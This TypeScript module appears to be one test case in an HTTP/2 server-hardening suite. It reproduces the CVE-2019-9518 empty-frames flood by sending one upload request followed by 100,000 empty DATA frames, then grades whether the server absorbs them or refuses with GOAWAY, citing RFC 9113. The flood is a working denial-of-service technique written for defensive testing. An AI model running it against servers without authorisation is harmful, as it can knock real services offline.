/** CVE-2019-9518: a stream of DATA frames with no payload and no END_STREAM, each costing the target a frame's work for nothing. */
import { Engagement } from '../engagement.ts';
import { dataFrame, headersFrame, requestBlock } from '../frames.ts';
import { answer, floodRefusal, notDelivered } from './answers.ts';
import { definePattern } from './types.ts';

const EMPTY = Buffer.alloc(0);

export default definePattern({
  id: 'empty-frames',
  title: 'Empty frames flood',
  cve: 'CVE-2019-9518',
  year: 2019,
  summary: 'one upload request, then DATA frames without payload or END_STREAM',
  expected: 'empty DATA is legal (§6.1): absorbed at bounded cost, or GOAWAY ENHANCE_YOUR_CALM (§10.5)',
  rfc: 'RFC 9113 §6.1, §10.5',
  defaults: { frames: 100_000 },
  scaled: ['frames'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'empty DATA frames', p.frames);
    const peer = await e.open({ handshake: true });
    if (peer !== null) {
      const head = headersFrame(1, requestBlock({ method: 'POST', authority: ctx.target.authority, path: ctx.paths.upload }), {
        endStream: false,
        endHeaders: true,
      });
      e.sent(await peer.writeUnits(p.frames, (i) => (i === 0 ? [head, dataFrame(1, EMPTY, false)] : dataFrame(1, EMPTY, false)), ctx.budget));
    }
    return e.finish();
  },
  judge(o) {
    return notDelivered(o) ?? floodRefusal(o) ?? answer('expected', o, 'absorbed the empty frames, which §6.1 permits');
  },
});
